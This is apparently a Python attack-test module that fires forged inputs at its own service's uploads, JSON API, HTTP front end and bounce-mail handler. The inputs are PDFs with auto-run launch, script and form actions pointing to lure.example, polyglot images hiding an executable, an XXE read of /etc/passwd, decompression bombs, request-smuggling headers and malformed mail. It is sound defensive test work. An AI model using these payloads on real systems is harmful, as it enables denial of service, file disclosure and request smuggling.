"""Attacks by content: bombs that unpack or nest without limit, and files that hide other content."""

from __future__ import annotations

import contextlib
import io
import secrets
import smtplib
import zlib
from collections import Counter
from collections.abc import Callable, Mapping, Sequence
from functools import partial
from typing import Any, Final

import pikepdf
from PIL import Image

from labs.attacks.bed import Attack, AttackBed, AttackOutcome, listed
from services.notification.reports import return_path

Forged = Mapping[str, Callable[[], bytes]]
BOMB: Final = 300_000_000
"""Unpacked size of a page in bytes."""


def _pdf(change: Callable[[pikepdf.Pdf], object]) -> bytes:
    """A PDF of one page, changed."""
    document = pikepdf.new()
    document.add_blank_page()
    change(document)
    out = io.BytesIO()
    document.save(out, compress_streams=False)
    return out.getvalue()


def _opens(**action: Any) -> Callable[[], bytes]:
    """A PDF with an action that runs when it is opened."""
    made = pikepdf.Dictionary(**action)
    return lambda: _pdf(lambda document: setattr(document.Root, "OpenAction", document.make_indirect(made)))


def _hidden_in_resources(name: str, value: Callable[[pikepdf.Pdf], pikepdf.Object]) -> Callable[[], bytes]:
    def change(document: pikepdf.Pdf) -> None:
        document.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary({name: value(document)}))

    return lambda: _pdf(change)


def _external_stream(document: pikepdf.Pdf) -> pikepdf.Object:
    stream = document.make_stream(b"")
    stream.F = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, FS=pikepdf.Name.URL, F="https://lure.example/x")
    stream.Type, stream.Subtype, stream.BBox = pikepdf.Name.XObject, pikepdf.Name.Form, pikepdf.Array([0, 0, 1, 1])
    return stream


def _reference(document: pikepdf.Pdf) -> pikepdf.Object:
    stream = document.make_stream(b"")
    stream.Type, stream.Subtype, stream.BBox = pikepdf.Name.XObject, pikepdf.Name.Form, pikepdf.Array([0, 0, 1, 1])
    stream.Ref = pikepdf.Dictionary(
        F=pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F="\\\\lure.example\\x.pdf"), Page=0
    )
    return stream


def _annotated(**action: Any) -> Callable[[], bytes]:
    def change(document: pikepdf.Pdf) -> None:
        link = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Link,
            Rect=pikepdf.Array([0, 0, 9, 9]),
            A=pikepdf.Dictionary(**action),
        )
        document.pages[0].Annots = pikepdf.Array([document.make_indirect(link)])

    return lambda: _pdf(change)


def _attached(document: pikepdf.Pdf) -> None:
    document.attachments["a.exe"] = pikepdf.AttachedFileSpec(document, b"MZ" + bytes(100))


Name = pikepdf.Name
PDFS: Final[Forged] = {
    "opens a URI": _opens(S=Name.URI, URI="https://lure.example/"),
    "opens a thread": _opens(
        S=Name.Thread, F=pikepdf.Dictionary(Type=Name.Filespec, F="https://lure.example/x.pdf"), D=0
    ),
    "opens a file": _opens(S=Name.GoToR, F=pikepdf.Dictionary(Type=Name.Filespec, F="\\\\lure.example\\x.pdf"), D=0),
    "runs a program": _opens(S=Name.Launch, F=pikepdf.Dictionary(Type=Name.Filespec, F="calc.exe")),
    "runs a script": _opens(S=Name.JavaScript, JS="app.alert(1)"),
    "sends a form": _annotated(S=Name.SubmitForm, F=pikepdf.Dictionary(FS=Name.URL, F="https://lure.example/")),
    "imports data": _annotated(S=Name.ImportData, F=pikepdf.Dictionary(Type=Name.Filespec, F="x.fdf")),
    "external stream": _hidden_in_resources("/X", _external_stream),
    "reference XObject": _hidden_in_resources("/X", _reference),
    "attached file": lambda: _pdf(_attached),
}
"""PDF files with actions, references or attachments."""


def _jpeg(size: tuple[int, int] = (64, 48), content: bytes = b"") -> bytes:
    out = io.BytesIO()
    Image.effect_noise(size, 60).convert("RGB").save(out, "JPEG", comment=content or None)
    return out.getvalue()


def png() -> bytes:
    """A picture in which there is much."""
    out = io.BytesIO()
    Image.effect_noise((64, 48), 60).convert("RGB").save(out, "PNG")
    return out.getvalue()


def _second_jpeg() -> bytes:
    """A JPEG followed by a second JPEG that contains nothing but a program."""
    payload = b"MZ" + bytes(range(1, 200)) * 20
    frame = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    segments = b"".join(b"\xff\xfe" + (len(part) + 2).to_bytes(2, "big") + part for part in (payload[:60_000],))
    return _jpeg() + frame + segments + b"\xff\xd9"


PICTURES: Final[Forged] = {
    "JPEG with a second JPEG that is a program": _second_jpeg,
    "JPEG and archive": lambda: _jpeg() + b"PK\x03\x04" + bytes(200),
    "PNG and HTML": lambda: png() + b"<html><script>alert(1)</script></html>",
    "truncated PNG": lambda: png()[:-20],
    "HTML": lambda: b"<!doctype html><script>alert(1)</script>",
    "SVG with a script": lambda: b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
    "XML with an external entity": lambda: (
        b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>"
    ),
}
"""Pictures that are something else as well, and files that only pose as pictures."""


def _pixels() -> bytes:
    out = io.BytesIO()
    Image.new("1", (20_000, 20_000)).save(out, "PNG")
    return out.getvalue()


def _flate(unpacked: int, *, times: int = 1, streams: int = 1) -> Callable[[], bytes]:
    """A PDF with page contents that unpack to this many bytes each."""

    def change(document: pikepdf.Pdf) -> None:
        content = b" " * unpacked
        for _ in range(times):
            content = zlib.compress(content)
        contents = [document.make_stream(b"") for _ in range(streams)]
        for stream in contents:
            stream.write(content, filter=pikepdf.Array([Name.FlateDecode] * times))
        document.pages[0].Contents = document.make_indirect(pikepdf.Array(contents))

    return lambda: _pdf(change)


def _nested() -> bytes:
    """A PDF of deeply nested arrays, written by hand because libraries refuse to."""
    deep = b"[" * 50_000 + b"]" * 50_000
    body = (
        b"%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R/X "
        + deep
        + b">>\nendobj\n2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\n"
    )
    return body + b"xref\n0 1\n0000000000 65535 f \ntrailer\n<</Root 1 0 R/Size 3>>\nstartxref\n%d\n%%%%EOF\n" % len(
        body
    )


BOMBS: Final[Forged] = {
    "400 million pixels": _pixels,
    "300 MB page": _flate(BOMB),
    "300 MB page, compressed twice": _flate(BOMB, times=2),
    "three times 200 MB": _flate(200_000_000, streams=3),
    "arrays 50,000 deep": _nested,
    "JPEG header with 65,500 lines": lambda: _jpeg((64, 48)).replace(b"\x00\x30\x00\x40", b"\xff\xdc\xff\xdc", 1),
    "zeros, packed": lambda: zlib.compress(bytes(50_000_000), 9),
}
"""Small files that become large when opened."""


def _sent(bed: AttackBed, files: Forged) -> AttackOutcome:
    """Upload files, none of which may be accepted."""
    owner = bed.person()
    answers: Counter[str] = Counter()
    taken = []
    for name, make in files.items():
        answer = bed.upload(owner, make())
        answers[str(answer.status_code)] += 1
        if answer.is_success:
            taken.append(name)
    failed = sum(count for status, count in answers.items() if status >= "500" and status != "503")
    return AttackOutcome(
        bool(taken or failed), f"{listed(answers)}" + (f"; taken: {', '.join(taken)}" if taken else "")
    )


def deep_json(bed: AttackBed) -> AttackOutcome:
    """Send JSON that nests, repeats or grows without limit."""
    person = bed.person()
    bodies = {
        "deep list": b"[" * 400_000,
        "deep object": b'{"a":' * 150_000,
        "large number": b'{"kind": ' + b"9" * 400_000 + b"}",
        "repeated": b"{" + b",".join([b'"kind": "person"'] * 40_000) + b"}",
        "large text": b'{"kind": "' + b"a" * 900_000 + b'"}',
        "escapes": b'{"kind": "' + b"\\ud83d" * 100_000 + b'"}',
        "too large": b'{"kind": "' + b"a" * 3_000_000 + b'"}',
        "nothing": b"",
        "NUL": b"\0" * 100_000,
    }
    kind = {"Content-Type": "application/json"}
    answers = bed.statuses(
        [partial(person.request, "POST", "/v1/claims", content=body, headers=kind) for body in bodies.values()],
        threads=4,
    )
    packed = zlib.compress(b'{"kind": "' + b"a" * 50_000_000 + b'"}', 9)
    answers += bed.statuses(
        [partial(person.request, "POST", "/v1/claims", content=packed, headers={**kind, "Content-Encoding": "deflate"})]
    )
    good = answers.total() - sum(
        count for status, count in answers.items() if status >= "500" or status.startswith("2")
    )
    return AttackOutcome(good < answers.total(), listed(answers))


def odd_requests(bed: AttackBed) -> AttackOutcome:
    """Send requests that a proxy and a server may read differently, and oversized headers."""
    person = bed.person()
    token = f"Authorization: Bearer {person.token}\r\n".encode()
    heads = [
        b"POST /v1/accounts HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /v1/me HTTP/1.1\r\nHost: a\r\n\r\n",
        b"POST /v1/accounts HTTP/1.1\r\nHost: a\r\nContent-Length: 2\r\nContent-Length: 40\r\n\r\n{}",
        b"POST /v1/accounts HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
        b"POST /v1/accounts HTTP/1.1\r\nHost: a\r\nContent-Length: -1\r\n\r\n{}",
        b"GET /v1/me HTTP/1.1\r\nHost: a\r\n" + token + b"X: " + b"a" * 200_000 + b"\r\n\r\n",
        b"GET /v1/me HTTP/1.1\r\nHost: a\r\n"
        + token
        + b"".join(b"X%d: a\r\n" % number for number in range(20_000))
        + b"\r\n",
        b"GET /" + b"a" * 200_000 + b" HTTP/1.1\r\nHost: a\r\n\r\n",
        b"TRACE /v1/me HTTP/1.1\r\nHost: a\r\n" + token + b"\r\n",
    ]
    answers = [bed.raw(head) for head in heads]
    # none of these may be served, nor a second request that hides behind it
    opened = [answer for answer in answers if b"HTTP/1.1 2" in answer or answer.startswith(b"HTTP/1.1 500")]
    said = Counter(
        (answer.split(b" ", 2)[1].decode() if answer.startswith(b"HTTP/") else "closed") for answer in answers
    )
    return AttackOutcome(bool(opened), listed(said))


def mail_reports(bed: AttackBed) -> AttackOutcome:
    """Send delivery reports that nest, repeat or are malformed."""
    settings = bed.settings
    assert settings.mail_key is not None
    key, domain = settings.mail_key.get_secret_value(), settings.smtp_from.rpartition("@")[2]
    to = return_path(key, f"m-{secrets.token_hex(16)}", domain)
    head = b"From: a@b.example\r\nTo: x\r\nMIME-Version: 1.0\r\n"
    deep = b"".join(
        b'Content-Type: multipart/report; report-type=delivery-status; boundary="b%d"\r\n\r\n--b%d\r\n'
        % (number, number)
        for number in range(10_000)
    )
    wide = (
        b'Content-Type: multipart/report; report-type=delivery-status; boundary="b"\r\n\r\n'
        + b"--b\r\n\r\n\r\n" * 60_000
    )
    mails = [
        head + deep,
        head + wide,
        head + b"Content-Type: message/rfc822\r\n\r\n" * 20_000,
        head + b"X: " + b"a" * 900_000,
        head + b"Content-Type: multipart/report; boundary=\r\n\r\n" + b"--\r\n" * 100_000,
        head + b"Content-Transfer-Encoding: base64\r\n\r\n" + b"A" * 900_000,
        b"\0" * 500_000,
    ]
    answers: Counter[str] = Counter()
    for receiver, content in [
        *((to, mail) for mail in mails),
        ("stranger@" + domain, head),
        (to.replace("-", "-0"), head),
    ]:
        answers[str(_mailed(bed, receiver, content))] += 1
    after = _mailed(bed, to, head + b"\r\nHello\r\n")
    return AttackOutcome(after != 250, f"{listed(answers)}; then an ordinary mail {after}")


def _mailed(bed: AttackBed, to: str, content: bytes) -> int:
    with (
        contextlib.suppress(OSError, smtplib.SMTPServerDisconnected),
        smtplib.SMTP("127.0.0.1", bed.settings.bounce_port, timeout=60) as smtp,
    ):
        try:
            refused = smtp.sendmail("", [to], content)
        except smtplib.SMTPRecipientsRefused as error:
            refused = error.recipients
        except smtplib.SMTPResponseException as error:
            return error.smtp_code
        return next((code for code, _ in refused.values()), 250)
    return 0


def _forged(name: str, aim: str, files: Forged, finding: str = "") -> Attack:
    return Attack(name, aim, partial(_sent, files=files), finding)


FILES: Final[Sequence[Attack]] = (
    _forged("active PDFs", "make a reader's viewer act", PDFS, "S14"),
    _forged("forged pictures", "store a program or a page", PICTURES, "S14"),
    _forged("bombs", "exhaust the decoder", BOMBS),
    Attack("deep JSON", "exhaust the parser", deep_json),
    Attack("odd requests", "be read differently by proxy and server", odd_requests),
    Attack("mail reports", "exhaust the reader of delivery reports", mail_reports),
)
